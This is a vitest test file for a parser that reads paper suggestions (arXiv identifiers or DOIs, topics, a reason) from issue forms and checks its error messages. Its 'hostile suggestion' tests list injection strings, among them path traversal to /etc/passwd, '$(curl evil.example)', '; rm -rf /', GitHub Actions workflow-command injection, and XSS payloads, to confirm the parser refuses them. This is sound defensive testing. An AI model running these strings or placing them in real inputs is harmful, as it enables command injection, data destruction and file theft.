import { describe, expect, it } from 'vitest';
import { readSuggestion } from '../../../scripts/suggestion/read-suggestion.ts';
import { cpuTime } from '../../cpu-time.ts';
import { GOOD, issueBody, topics } from './issue-body.ts';

const read = (body: string) => readSuggestion(body, topics);

/** What the person who made a suggestion is told. */
function refusal(body: string): string {
  try {
    read(body);
  } catch (error) {
    return (error as Error).message;
  }
  throw new Error('The suggestion was taken.');
}

describe('a suggestion', () => {
  it('is read from the form', () => {
    expect(read(issueBody())).toEqual({
      paper: '2311.00136',
      topics: ['neuroscience', 'brain-decoding'],
      why: 'One model decodes all.',
    });
  });

  it.each([
    ['https://arxiv.org/abs/2311.00136v2', '2311.00136'],
    ['arXiv:hep-th/9901001', 'hep-th/9901001'],
    ['  https://arxiv.org/pdf/2311.00136.pdf ', '2311.00136'],
    ['https://doi.org/10.1038/s41586-020-2649-2', '10.1038/s41586-020-2649-2'],
  ])('takes %s', (paper, identifier) => {
    expect(read(issueBody({ paper })).paper).toBe(identifier);
  });

  it('may fit no topic, and names each topic once', () => {
    expect(read(issueBody({ topics: '_No response_' })).topics).toEqual([]);
    expect(read(issueBody({ topics: 'None of these' })).topics).toEqual([]);
    expect(read(issueBody({ topics: 'pruning,pruning, none of these' })).topics).toEqual(['pruning']);
  });

  it('with a hidden character among its topics is told which', () => {
    expect(refusal(issueBody({ topics: 'pru\u200bning' }))).toContain('U+200B in "Topics"');
  });

  it('that is not filled in is told what to type where', () => {
    expect(refusal('')).toMatchInlineSnapshot(`
      "Unexpected empty field "arXiv identifier, address or DOI", expected an answer.
      Type one below the heading ### arXiv identifier, address or DOI.

      Unexpected empty field "Why it belongs on the list", expected an answer.
      Type one below the heading ### Why it belongs on the list."
    `);
  });

  it('without an identifier is told what one looks like', () => {
    expect(refusal(issueBody({ paper: 'Neuroformer' }))).toMatchInlineSnapshot(`
      "Unexpected \`Neuroformer\` for "arXiv identifier, address or DOI", expected an arXiv identifier such as 2311.00136, the address of its page, or a DOI.
      Copy the address from the browser: https://arxiv.org/abs/2311.00136"
    `);
  });

  it('with a wrong topic is told which one is near, or all there are', () => {
    expect(refusal(issueBody({ topics: 'neurosience, neurons real and artificail, zoology' })))
      .toMatchInlineSnapshot(`
        "Unexpected \`neurosience\` for "Topics", expected topics of the list, separated by commas.
        Did you mean \`neuroscience\`?

        Unexpected \`neurons real and artificail\` for "Topics", expected topics of the list, separated by commas.
        Did you mean \`Neurons, real and artificial\`?

        Unexpected \`zoology\` for "Topics", expected topics of the list, separated by commas.
        The topics are brain-decoding, neuroscience, pruning."
      `);
  });

  it('that says too much is told to say less', () => {
    expect(refusal(issueBody({ why: 'x'.repeat(601) }))).toMatchInlineSnapshot(`
      "Unexpected 601 characters in "Why it belongs on the list", expected one sentence of at most 600.
      Shorten it: the abstract is fetched."
    `);
  });
});

describe('a hostile suggestion', () => {
  it.each([
    '../../../etc/passwd',
    '2311.00136/../../x',
    'https://arxiv.org/abs/../../etc/passwd',
    'https://evil.example/abs/2311.00136',
    '$(curl evil.example)',
    '2311.00136; rm -rf /',
    '2311.00136 && id',
    '2311.00136`id`',
    '--upload-pack=x',
    '2311.00136\n::set-output name=file::/etc/passwd',
    '::add-path::/tmp',
    '<script>alert(1)</script>',
    '---js\nmodule.exports = 1\n---',
    '!!js/function "x"',
    '10.1000/x y',
    '[x](javascript:alert(1))',
    '2311.٠٠١٣٦',
  ])('with the identifier %j is refused and quoted on one line', (paper) => {
    const message = refusal(issueBody({ paper }));
    expect(message).toMatch(/^Unexpected `[^\n]*` for "arXiv identifier, address or DOI", expected/);
    expect(message.split('\n')).toHaveLength(2);
  });

  it.each([
    ['turned around', '2311.00136\u202e', 'U+202E'],
    ['padded with zero width', '2311\u200b.00136', 'U+200B'],
    ['with a byte order mark', '2311\ufeff.00136', 'U+FEFF'],
    ['with a bell', '2311.00136\u0007', 'U+0007'],
    ['with an escape sequence', '\u001b[2J2311.00136', 'U+001B'],
    ['with a null', '2311.00136\u0000', 'U+0000'],
  ])('%s is refused by the name of the character', (_, paper, code) => {
    expect(refusal(issueBody({ paper }))).toContain(`${code} in "arXiv identifier`);
    expect(refusal(issueBody({ why: paper }))).toContain(`${code} in "Why it belongs`);
  });

  it('may write in any script, with accents and emoji', () => {
    const why = 'می‌خواهم 👩‍🔬 naïve 神経 ∑';
    expect(read(issueBody({ why })).why).toBe(why);
  });

  it('of 10 MB is refused in a moment', () => {
    let refused = '';
    const body = issueBody({ why: 'a '.repeat(5_000_000) });
    expect(cpuTime(() => (refused = refusal(body)))).toBeLessThan(1000);
    expect(refused).toMatchInlineSnapshot(`
      "Unexpected text of 10000124 characters, expected at most 65536.
      Fill in the form again, with one sentence a field."
    `);
  });

  it.each([
    ['topics', { topics: Array.from({ length: 8000 }, (_, n) => `topic-${n}`).join(', ') }],
    ['topics of white space', { topics: `x${' '.repeat(60_000)}y` }],
    ['one topic', { topics: 'x'.repeat(60_000) }],
    ['an identifier', { paper: '/'.repeat(60_000) }],
    ['an identifier of brackets', { paper: '[ '.repeat(30_000) }],
    ['an identifier of versions', { paper: 'v1'.repeat(30_000) }],
    ['white space', { paper: `${' '.repeat(60_000)}x` }],
  ])('that is all %s is refused in a moment, in few words', (_, answers) => {
    let refused = '';
    expect(cpuTime(() => (refused = refusal(issueBody(answers))))).toBeLessThan(1000);
    expect(refused.length).toBeLessThan(2000);
  });

  it('that repeats the headings changes no answer above', () => {
    const { paper } = read(`${issueBody()}\n\n### arXiv identifier, address or DOI\n\n9999.99999`);
    expect(paper).toBe(GOOD.paper);
  });
});
